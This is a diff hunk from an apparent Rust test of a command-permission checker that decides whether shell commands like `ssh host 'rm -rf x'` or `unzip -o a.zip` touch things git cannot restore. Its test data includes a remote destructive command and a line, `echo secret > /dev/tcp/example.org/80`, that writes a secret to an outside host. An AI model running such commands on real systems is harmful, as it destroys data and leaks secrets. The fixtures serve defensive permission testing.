@@ -168,7 +168,7 @@ fn what_reaches_beyond_the_tree_is_asked_about() {
                       `ssh host 'rm -rf x'` would change the system that `ssh` reaches, and no git brings that back.
             allow ssh host ls
             ask   unzip -o a.zip
-                      `unzip -o a.zip` cannot be judged: it would write over files in `.`, and which is not known.
+                      `unzip -o a.zip` may change 5 lines that are not committed in `a.txt` (3), `new.txt` (1) and `notes/idea.txt` (1).
             allow echo secret > /dev/tcp/example.org/80
         "#]],
     );
